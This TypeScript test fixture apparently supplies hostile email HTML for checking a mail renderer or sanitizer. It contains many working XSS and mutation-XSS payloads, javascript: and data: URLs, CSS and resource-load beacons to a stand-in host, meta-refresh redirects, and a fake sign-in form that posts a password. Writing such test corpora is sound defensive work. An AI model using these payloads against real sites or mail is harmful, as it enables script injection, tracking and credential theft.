// Mail by people who mean harm. `from` is an address elsewhere: whatever asks it for something has leaked,
// and its path says which trick did it. A script that runs calls `pwned`, by whatever road it finds.

/** What a trick is after. */
export type Aim = 'script' | 'load' | 'navigate' | 'form';

export interface Hostile {
  name: string;
  aims: Aim[];
  html: (from: string) => string;
}

/** A script in one line, without quotation marks of its own, that says which trick let it run. */
const run = (trick: string): string =>
  `try{top.pwned=(top.pwned||[]).concat(/${trick}/.source)}catch(e){}try{parent.pwned=[/${trick}/.source]}catch(e){}window.pwned=[/${trick}/.source];alert(/${trick}/.source)`;

export const CORPUS: Hostile[] = [
  {
    name: 'scripts',
    aims: ['script', 'load'],
    html: (from) => `
      <script>${run('script')}</script>
      <SCRIPT/x>${run('script-slash')}</SCRIPT>
      <script src="${from}/script-src"></script>
      <script type="module">import '${from}/script-import'; ${run('script-module')}</script>
      <scr<script>ipt>${run('script-split')}</scr</script>ipt>
      <noscript><p title="</noscript><script>${run('script-noscript')}</script>"></noscript>
      <template><script>${run('script-template')}</script></template>
      <textarea></textarea><script>${run('script-textarea')}</script>
      <style></style><script>${run('script-style')}</script>
      <xmp><script>${run('script-xmp')}</script></xmp>
      <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run('mxss-mglyph')}&gt;">
      <form><math><mtext></form><form><mglyph><style></math><img src onerror="${run('mxss-form')}">
      <svg></p><style><a id="</style><img src=1 onerror='${run('mxss-svg')}'>"></a></style></svg>
      <p>Words between.</p>`,
  },
  {
    name: 'handlers',
    aims: ['script'],
    html: () => `
      <img src="x" onerror="${run('img-onerror')}">
      <img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${run('img-onload')}">
      <body onload="${run('body-onload')}" onpageshow="${run('body-onpageshow')}">
      <video onerror="${run('video-onerror')}"><source src="x" onerror="${run('source-onerror')}"></video>
      <details open ontoggle="${run('details-ontoggle')}"><summary>more</summary></details>
      <input autofocus onfocus="${run('input-onfocus')}">
      <a href="#x" id="x" tabindex="1" autofocus onfocus="${run('a-onfocus')}">focus</a>
      <marquee onstart="${run('marquee-onstart')}">go</marquee>
      <div style="animation:x 1s" onanimationstart="${run('onanimationstart')}">moves</div>
      <style>@keyframes x{from{left:0}to{left:1px}}</style>
      <div onmouseover="${run('onmouseover')}" onpointerenter="${run('onpointerenter')}" style="position:fixed;inset:0">all over</div>
      <a href="javascript:${run('a-javascript')}">click</a>
      <a href="java&#10;script:${run('a-javascript-newline')}">click</a>
      <a href="&#1;javascript:${run('a-javascript-control')}">click</a>
      <a href="data:text/html,<script>${run('a-data')}</script>">click</a>
      <a href="vbscript:${run('a-vbscript')}">click</a>
      <p>Words between.</p>`,
  },
  {
    name: 'svg and mathml',
    aims: ['script', 'load'],
    html: (from) => `
      <svg onload="${run('svg-onload')}"><script>${run('svg-script')}</script></svg>
      <svg><script href="${from}/svg-script-href"></script></svg>
      <svg><image href="${from}/svg-image" width="1" height="1"/></svg>
      <svg><use href="${from}/svg-use#x"/></svg>
      <svg><filter id="f"><feImage href="${from}/svg-feimage"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>
      <svg><a href="javascript:${run('svg-a')}"><text y="20">click</text></a></svg>
      <svg><animate attributeName="href" values="javascript:${run('svg-animate')}" begin="0s"/></svg>
      <svg><set attributeName="onmouseover" to="${run('svg-set')}"/></svg>
      <svg><foreignObject><iframe srcdoc="<script>${run('svg-foreign')}</script>"></iframe></foreignObject></svg>
      <svg><style>@import '${from}/svg-import';</style></svg>
      <math href="javascript:${run('math-href')}">click</math>
      <img src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='${run('svg-data')}'&gt;&lt;image href='${from}/svg-data'/&gt;&lt;/svg&gt;">
      <p>Words between.</p>`,
  },
  {
    name: 'css',
    aims: ['load', 'script'],
    html: (from) => `
      <style>
        @import url("${from}/css-import");
        @import '${from}/css-import-string';
        @charset "utf-8"; @namespace url(${from}/css-namespace);
        @font-face { font-family: leak; src: url(${from}/css-font); }
        p { font-family: leak; background: url(${from}/css-url); }
        p { background: u\\72l(${from}/css-escaped-url); }
        p { background: \\75\\72\\6c(${from}/css-escaped-all); }
        p { background: url( '${from}/css-quoted' ); }
        p { background: image-set('${from}/css-image-set' 1x); }
        p { background: -webkit-image-set(url(${from}/css-webkit-image-set) 1x); }
        p { background: cross-fade(url(${from}/css-cross-fade), red); }
        p { list-style-image: url(${from}/css-list); cursor: url(${from}/css-cursor), auto; }
        p { border-image: url(${from}/css-border) 30; mask-image: url(${from}/css-mask); }
        p { shape-outside: url(${from}/css-shape); filter: url(${from}/css-filter#x); }
        p { content: url(${from}/css-content); clip-path: url(${from}/css-clip#x); }
        p::before { content: url(${from}/css-before); }
        p { --leak: url(${from}/css-variable); background-image: var(--leak); }
        p { background: url(${from}/css-unclosed
      </style>
      <style>/* unclosed comment p { background: url(${from}/css-comment) }</style>
      <style><!-- p { background: url(${from}/css-html-comment) } --></style>
      <p style="background:url(${from}/style-url)">One</p>
      <p style="background:url(&quot;${from}/style-quoted&quot;)">Two</p>
      <p style="background:ur/**/l(${from}/style-comment);background:\\75rl(${from}/style-escaped)">Three</p>
      <p style="background-image:url(//${from.replace('http://', '')}/style-protocol-relative)">Four</p>
      <p style="width:expression(${run('css-expression')});-moz-binding:url(${from}/css-binding)">Five</p>
      <p style="behavior:url(${from}/css-behavior)">Six</p>
      <link rel="stylesheet" href="${from}/link-stylesheet">
      <p>Words between.</p>`,
  },
  {
    name: 'loads',
    aims: ['load'],
    html: (from) => `
      <img src="${from}/img-src"> <img src=${from}/img-unquoted>
      <img srcset="${from}/img-srcset 1x, ${from}/img-srcset-2 2x" src="x">
      <img src="//${from.replace('http://', '')}/img-protocol-relative">
      <img src="\n${from}/img-newline"> <img src="&#x20;${from}/img-entity">
      <img lowsrc="${from}/img-lowsrc" dynsrc="${from}/img-dynsrc" longdesc="${from}/img-longdesc">
      <picture><source srcset="${from}/picture-srcset"><img src="x"></picture>
      <table background="${from}/table-background"><tr><td background="${from}/td-background">cell</td></tr></table>
      <body background="${from}/body-background">
      <video src="${from}/video-src" poster="${from}/video-poster" autoplay></video>
      <audio src="${from}/audio-src" autoplay></audio>
      <video autoplay><source src="${from}/source-src"><track src="${from}/track-src" default></video>
      <input type="image" src="${from}/input-image"> <object data="${from}/object-data"></object>
      <embed src="${from}/embed-src"> <applet code="${from}/applet"></applet>
      <iframe src="${from}/iframe-src"></iframe> <frameset><frame src="${from}/frame-src"></frameset>
      <iframe srcdoc="<img src='${from}/iframe-srcdoc'>"></iframe>
      <link rel="prefetch" href="${from}/link-prefetch"> <link rel="preload" as="image" href="${from}/link-preload">
      <link rel="preconnect" href="${from}"> <link rel="dns-prefetch" href="${from}">
      <link rel="icon" href="${from}/link-icon"> <link rel="modulepreload" href="${from}/link-modulepreload">
      <link rel="manifest" href="${from}/link-manifest"> <link rel="prerender" href="${from}/link-prerender">
      <script type="speculationrules">{"prefetch":[{"source":"list","urls":["${from}/speculation"]}]}</script>
      <a href="${from}/a-ping" ping="${from}/ping">ping</a>
      <blockquote cite="${from}/cite">cited</blockquote> <q cite="${from}/q-cite">cited</q>
      <p>Words between.</p>`,
  },
  {
    name: 'navigation',
    aims: ['navigate'],
    html: (from) => `
      <meta http-equiv="refresh" content="0;url=${from}/meta-refresh">
      <META HTTP-EQUIV="Refresh" CONTENT="0; URL='${from}/meta-refresh-quoted'">
      <base href="${from}/base/" target="_top">
      <img src="relative-to-base.png"> <a href="relative">relative</a>
      <p>Words between.</p>`,
  },
  {
    name: 'forms',
    aims: ['form', 'load'],
    html: (from) => `
      <form action="${from}/form-action" method="post" target="_top">
        <input name="password" value="secret"><button id="press">Sign in again</button>
      </form>
      <form id="far"></form><button form="far" formaction="${from}/formaction" id="press-2">Go</button>
      <input type="submit" form="far" formaction="${from}/input-formaction" id="press-3">
      <isindex action="${from}/isindex"> <keygen>
      <dialog open>Your session is over. <a href="${from}/dialog">Sign in</a></dialog>
      <p>Words between.</p>`,
  },
];

/** A message whose layout is work: deep and wide tables. */
export const hugeTable = (): string => {
  const row = `<tr>${'<td style="border:1px solid #999">cell</td>'.repeat(20)}</tr>`;
  const deep = 60;
  return `${'<table><tr><td>'.repeat(deep)}<table>${row.repeat(1500)}</table>${'</td></tr></table>'.repeat(deep)}`;
};

/** Five megabytes of markup. */
export const fiveMegabytes = (): string => {
  const line =
    '<p>Many words that go on and on, <b>some of them</b> <i>slanted</i>, and again.</p>\n';
  return line.repeat(Math.ceil((5 * 1024 * 1024) / line.length));
};
